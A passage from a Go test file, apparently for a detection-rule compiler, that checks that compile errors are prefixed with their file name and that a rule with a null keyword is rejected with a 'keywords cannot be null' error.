			if !strings.HasPrefix(err.Error(), "test.yml:") {
				t.Errorf("error %q is not located in its file", err)
			}
		})
	}
	err := compileErr(t, ruleDoc("keywords: [null]\ncondition: keywords\n"))
	if !strings.Contains(err.Error(), "keywords cannot be null") {
		t.Errorf("null keyword: %v", err)
	}
}
